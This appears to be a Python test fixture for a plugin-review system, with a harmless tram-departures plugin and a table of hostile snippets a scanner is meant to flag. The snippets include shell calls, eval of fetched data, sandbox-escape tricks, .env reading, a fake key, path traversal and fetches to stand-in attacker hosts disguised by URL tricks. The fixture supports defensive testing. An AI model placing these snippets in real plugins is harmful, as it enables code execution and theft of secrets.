"""A draft a model writes, and what reviewers say of it."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from furoshiki.models.llm.values import Answer, Question, ToolCall

WISH = "Could you learn to tell me when the next tram leaves?"
NAME = "next-tram-leaves"

MANIFEST = f"""---
name: {NAME}
version: "1.0"
description: Says when the next tram leaves from the owner's stop.
author: the companion
licence: MIT
min_furoshiki: 0.1.0
entry_points:
  - hook: callable
    script: scripts/tram.py
    tool: next_tram
    description: The next trams from the owner's stop.
    when_to_use: Somebody asks when a tram leaves.
    args_schema:
      type: object
      properties: {{}}
permissions:
  network: [trams.example.org]
settings:
  - name: stop
    about: The number of your stop.
    default: "12"
---

# Trams

Ask when the next tram leaves.
"""
SCRIPT = '''"""The next trams of a stop."""

from furoshiki_plugin import answer, fetch, setting

if __name__ == "__main__":
    found = fetch("https://trams.example.org/next?stop=" + setting("stop", "12")).json()
    answer(data={"departures": found["departures"][:3]})
'''
FILES = {"PLUGIN.md": MANIFEST, "scripts/tram.py": SCRIPT}
CAN_DO = "It asks trams.example.org for the next trams of your stop when you want to know. It keeps nothing."

DRAFTS = {
    "starts a shell": ("import os\nos.system('id')\n", "uses os.system"),
    "starts a process": ("import subprocess\n", "imports subprocess"),
    "opens a socket": ("import socket\n", "imports socket"),
    "runs what it fetched": ("eval(found)\n", "uses eval"),
    "gives eval another name": ("run = exec\n", "uses exec"),
    "looks for builtins": ("print(().__class__.__base__.__subclasses__())\n", "reaches for __subclasses__"),
    "computes a name": ("import json\ngetattr(json, 'lo' + 'ads')('1')\n", "uses getattr with a name"),
    "reads hidden names by format": ("print('{0.__globals__}'.format(answer))\n", "hidden names in a format string"),
    "unpickles": ("import pickle\n", "what it reads can run code"),
    "loads a module by name": ("import importlib\n", "it loads code"),
    "calls C": ("from ctypes import CDLL\n", "reaches below the language"),
    "writes elsewhere": ("open('/home/pi/.bashrc', 'a').write('x')\n", "a place outside its folder"),
    "climbs out": ("open('../../config/SELF.md', 'w')\n", "a place outside its folder"),
    "reads our secrets": ("open('.env').read()\n", "names what is secret"),
    "carries a key": ("KEY = 'sk-ant-abcdefghijklmnopqrstuvwx'\n", "looks like a key"),
    "asks another host": ("fetch('https://evil.example.net/?q=1')\n", "evil.example.net, which is not among"),
    "hides a host in a suffix": ("fetch('https://trams.example.org.evil.net/')\n", "trams.example.org.evil.net"),
    "hides a host behind a name": ("fetch('https://trams.example.org@evil.net/')\n", "evil.net"),
    "reads the database unasked": (
        "from furoshiki_plugin import read_db\n",
        "reads the database, without the permission",
    ),
    "queues thoughts unasked": ("answer(mind_queue=[{'summary': 'buy'}])\n", "the permission write_mind_queue"),
    "thinks at our cost": ("import furoshiki_plugin as f\nf.think('hi')\n", "the permission llm"),
    "takes everything": ("from furoshiki_plugin import *\n", "imports everything"),
    "goes behind the module": ("from furoshiki_plugin import _call\n", "uses _call"),
    "hides characters": ("ok = 'a\u202eb'\n", "characters that cannot be seen"),
    "hides in length": (f"x = '{'a' * 500}'\n", "longer than 400"),
    "is no Python": ("def (:\n", "is no Python"),
    "makes links": ("data_dir().joinpath('a').symlink_to('b')\n", "uses symlink_to"),
    "reads environments": ("import os\nos.environ\n", "uses os.environ"),
}
"""What is added to the script of a draft, and what is seen of it: it should not be."""


def calls(*made: tuple[str, Mapping[str, Any]], cost: float = 0.0) -> Any:
    """A line of a scripted model that asks for tools."""

    def line(question: Question) -> Answer:
        found = tuple(ToolCall(f"c{number}", name, args) for number, (name, args) in enumerate(made))
        return Answer("", "tools", "scripted", "script", question.tier, found, cost_usd=cost)

    return line


def writes(files: Mapping[str, str] = FILES, cost: float = 0.0) -> list[Any]:
    """The lines of an author who writes these files and is done."""
    made = [("write_file", {"file": file, "text": text}) for file, text in files.items()]
    return [calls(*made, cost=cost), "It is done."]


def verdict(
    approve: bool = True, confidence: float = 0.9, issues: tuple[str, ...] = (), **other: Any
) -> dict[str, Any]:
    return {"approve": approve, "confidence": confidence, "blocking_issues": list(issues), "can_do": CAN_DO, **other}


def reviews(said: Mapping[str, Any] | None = None, files: Mapping[str, str] = FILES, cost: float = 0.0) -> list[Any]:
    """The lines of one reviewer who reads every file and says this."""
    read = [("read_file", {"file": file}) for file in files]
    return [calls(*read, cost=cost), calls(("verdict", said or verdict()), cost=cost)]
